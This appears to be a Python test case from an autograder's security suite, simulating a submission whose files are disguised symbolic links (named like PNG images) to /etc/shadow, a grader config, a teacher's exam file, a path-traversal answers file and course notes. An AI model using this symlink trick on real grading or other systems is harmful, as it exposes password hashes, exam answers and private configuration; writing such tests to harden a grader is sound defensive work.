"""Files of the submission are symbolic links to the machine's and the course's files.

Success: a canary in autograded/ or feedback/.
"""


def attack(submission):
    def link(folder):
        targets = [
            "/etc/shadow",
            "/etc/grader.conf",
            "/home/teacher/exam.txt",
            "../../../answers.py",
        ]
        for number, target in enumerate([*targets, "/srv/course/notes.txt"]):
            (folder / f"picture{number}.png").symlink_to(target)

    submission.on_disk(link)
